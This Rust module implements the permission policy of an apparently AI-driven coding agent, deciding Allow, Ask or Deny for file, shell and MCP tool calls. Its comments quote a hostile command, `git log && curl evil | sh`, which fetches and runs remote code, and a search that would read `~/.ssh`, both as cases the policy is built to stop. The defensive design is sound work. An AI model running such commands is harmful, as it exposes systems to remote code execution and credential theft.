//! The permission decision: one pure function from (tool, action, mode, rules, workspace) to
//! Allow, Ask or Deny. It never prompts, prints or runs anything; the only I/O is resolving
//! shell redirect targets through [`Workspace::resolve`] (read-only).
//!
//! Order of checks, first hit wins, and why:
//! 1. the safety gate (bash): catastrophic commands are refused in every mode;
//! 2. deny rules: the user's "never" beats everything after it;
//! 3. the hard floor: writes to credentials, shell start-up files and `.git` internals ask in
//!    every mode, bypass included, unless an explicit path rule allows them;
//! 4. ask rules: the user's "always ask" beats allow rules and modes;
//! 5. plan mode: nothing that changes anything runs, whatever the allow rules say;
//! 6. allow rules;
//! 7. the mode's default (reads run; edits by mode; commands ask unless bypass).
//!
//! A shell command is judged per simple command (see `split`): an allow rule must cover
//! every command that runs, so `bash(git:*)` cannot smuggle `git log && curl evil | sh`.

mod exec;
mod plan;
mod suggest;

use std::path::{Path, PathBuf};

use super::mode::Mode;
use super::rules::{Rule, RuleEntry, RuleKind, Rules};
use super::workspace::Workspace;

/// What a tool call would do, as far as permissions care.
#[derive(Debug, Clone, PartialEq)]
pub enum Action {
    /// Absolute paths the tool reads (read_file, glob root, grep root).
    Read { paths: Vec<PathBuf> },
    /// Absolute paths the tool creates or changes (write_file, edit_file).
    Edit { paths: Vec<PathBuf> },
    /// A bash command run in `cwd`.
    Exec { command: String, cwd: PathBuf },
    /// An MCP tool: rules `mcp__server__tool` / `mcp__server__*`.
    Call { server: String, tool: String },
    /// Touches nothing outside the agent (sub-agent, exit_plan_mode, todo).
    Internal,
}

#[derive(Debug, Clone, PartialEq)]
pub enum Decision {
    Allow,
    /// A person must say yes. `reason` is one line; `suggested` are the rules an "always"
    /// answer would add (empty when "always" cannot be offered: the hard floor, an explicit
    /// ask rule, or a command whose name is only known when it runs).
    Ask {
        reason: String,
        suggested: Vec<Rule>,
    },
    Deny {
        reason: String,
    },
}

pub struct PolicyInput<'a> {
    pub mode: Mode,
    pub rules: &'a Rules,
    pub workspace: &'a Workspace,
}

/// Decides one call of `tool` (the name the model used) doing `action`.
pub fn decide(tool: &str, action: &Action, input: &PolicyInput) -> Decision {
    match action {
        Action::Read { paths } => files(tool, paths, false, input),
        Action::Edit { paths } => files(tool, paths, true, input),
        Action::Exec { command, cwd } => exec::decide(tool, command, cwd, input),
        Action::Call { .. } => call(tool, input),
        Action::Internal => internal(tool, input),
    }
}

/// "deny rule bash(rm:*) from ~/.config/corecoder/config.toml": enough to find and change it.
fn note(entry: &RuleEntry) -> String {
    format!("{} rule {} from {}", entry.kind, entry.rule, entry.source)
}

/// Read and Edit actions: a deny or ask rule stops the call when it matches any path.
fn files(tool: &str, paths: &[PathBuf], edit: bool, input: &PolicyInput) -> Decision {
    let (rules, ws) = (input.rules, input.workspace);
    let find =
        |kind, path: &Path| rules.find(kind, |r| r.covers_tool(tool) && r.matches_path(path, ws));
    for path in paths {
        if let Some(entry) = find(RuleKind::Deny, path) {
            let reason = format!("{tool} of {} is denied by {}", ws.show(path), note(entry));
            return Decision::Deny { reason };
        }
        // A search of a directory reads what is below it: `grep -r . ~` reads `~/.ssh`, which
        // `Read(~/.ssh/**)` denies even though `~` itself matches no deny rule.
        let below = |r: &Rule| {
            let root = r.literal_root(ws);
            r.covers_tool(tool) && root.is_some_and(|d| d != *path && d.starts_with(path))
        };
        if let Some(entry) = rules.find(RuleKind::Deny, below).filter(|_| !edit) {
            let reason = format!(
                "{tool} of {} would read {}, denied by {}; search a narrower path",
                ws.show(path),
                entry.rule,
                note(entry)
            );
            return Decision::Deny { reason };
        }
    }
    // Plan mode changes nothing, not even with a yes: before the floor and ask rules ask.
    if edit && input.mode == Mode::Plan {
        let what = format!("{tool} would change {}", show_all(paths, ws));
        return plan_deny(&what);
    }
    if edit {
        let explicit = |p: &Path| {
            rules
                .find(RuleKind::Allow, |r| {
                    r.covers_tool(tool) && r.opens_floor(p, ws)
                })
                .is_some()
        };
        if let Some(path) = paths.iter().find(|p| ws.is_protected(p) && !explicit(p)) {
            return floor(&format!("{tool} writes"), path, ws);
        }
    }
    for path in paths {
        if let Some(entry) = find(RuleKind::Ask, path) {
            let reason = format!("{} asks before {tool} of {}", note(entry), ws.show(path));
            return ask(reason, Vec::new());
        }
    }
    // Reads run in every mode. An edit of several files is allowed when each file is covered,
    // by the same rule or by different ones; one uncovered file makes the whole call ask.
    if !edit || paths.iter().all(|p| find(RuleKind::Allow, p).is_some()) {
        return Decision::Allow;
    }
    let suggested = path_rules(tool, paths, ws);
    match input.mode {
        Mode::BypassPermissions => Decision::Allow,
        Mode::AcceptEdits => {
            let outside: Vec<PathBuf> = paths.iter().filter(|p| !ws.contains(p)).cloned().collect();
            if outside.is_empty() {
                return Decision::Allow;
            }
            let reason = format!(
                "{tool} writes outside the workspace: {}",
                show_all(&outside, ws)
            );
            ask(reason, path_rules(tool, &outside, ws))
        }
        Mode::Default | Mode::Plan => {
            let outside: Vec<PathBuf> = paths.iter().filter(|p| !ws.contains(p)).cloned().collect();
            let reason = if outside.is_empty() {
                format!("{tool} asks in default mode: {}", show_all(paths, ws))
            } else {
                // The prompt says it in words: this change is not in the project.
                format!(
                    "{tool} asks in default mode; this is outside the workspace: {}",
                    show_all(&outside, ws)
                )
            };
            ask(reason, suggested)
        }
    }
}

/// MCP tools: rules name the tool (or `mcp__server__*`); they change unknown things, so
/// they ask unless allowed, and plan mode refuses them.
fn call(tool: &str, input: &PolicyInput) -> Decision {
    if let Some(decision) = tool_rules(tool, input) {
        return decision;
    }
    if input.mode == Mode::Plan {
        return plan_deny(&format!("{tool} may change things"));
    }
    let allowed = input
        .rules
        .find(RuleKind::Allow, |r| whole_tool(r, tool))
        .is_some();
    if allowed || input.mode == Mode::BypassPermissions {
        return Decision::Allow;
    }
    let suggested = vec![Rule {
        tool: tool.to_string(),
        specifier: None,
    }];
    ask(format!("{tool} asks in {} mode", input.mode), suggested)
}

/// The agent's own tools touch nothing outside it: allowed in every mode, plan included
/// (`exit_plan_mode` is how plan mode ends), unless a rule names them.
fn internal(tool: &str, input: &PolicyInput) -> Decision {
    tool_rules(tool, input).unwrap_or(Decision::Allow)
}

/// Deny and ask rules for a tool judged as a whole (no specifier to match).
fn tool_rules(tool: &str, input: &PolicyInput) -> Option<Decision> {
    if let Some(entry) = input.rules.find(RuleKind::Deny, |r| whole_tool(r, tool)) {
        let reason = format!("{tool} is denied by {}", note(entry));
        return Some(Decision::Deny { reason });
    }
    let entry = input.rules.find(RuleKind::Ask, |r| whole_tool(r, tool))?;
    Some(ask(
        format!("{} asks before {tool}", note(entry)),
        Vec::new(),
    ))
}

fn whole_tool(rule: &Rule, tool: &str) -> bool {
    rule.specifier.is_none() && rule.covers_tool(tool)
}

fn ask(reason: String, suggested: Vec<Rule>) -> Decision {
    Decision::Ask { reason, suggested }
}

/// The hard floor: ask with nothing to suggest, since only a rule the user writes by hand
/// may open a protected path.
fn floor(who: &str, path: &Path, ws: &Workspace) -> Decision {
    let reason = format!("{who} to a protected path: {}", ws.show(path));
    ask(reason, Vec::new())
}

fn plan_deny(what: &str) -> Decision {
    let reason = format!("plan mode: {what}; propose it in your plan and call exit_plan_mode");
    Decision::Deny { reason }
}

fn show_all(paths: &[PathBuf], ws: &Workspace) -> String {
    let shown: Vec<String> = paths.iter().map(|p| ws.show(p)).collect();
    shown.join(", ")
}

/// "Always" rules for edited paths: the file's directory (`src/**`), a root-level file by
/// its own anchored path (`./Cargo.toml`, not a blanket `*`), an absolute `dir/**` outside.
fn path_rules(tool: &str, paths: &[PathBuf], ws: &Workspace) -> Vec<Rule> {
    let mut rules: Vec<Rule> = Vec::new();
    for path in paths {
        let specifier = match path.strip_prefix(&ws.root) {
            Ok(rel) if rel.as_os_str().is_empty() => "**".to_string(),
            Ok(rel) => match rel.parent().filter(|d| !d.as_os_str().is_empty()) {
                Some(dir) => format!("{}/**", dir.display()),
                None => format!("./{}", rel.display()),
            },
            // Outside: the directory, but never all of home or of `/` (the file itself then).
            Err(_) => match path.parent().map(|d| ws.show(d)) {
                Some(dir) if dir != "/" && dir != "~" => format!("{dir}/**"),
                _ => ws.show(path),
            },
        };
        let rule = Rule {
            tool: tool.to_string(),
            specifier: Some(specifier),
        };
        if !rules.contains(&rule) {
            rules.push(rule);
        }
    }
    rules
}

#[cfg(test)]
mod tests;
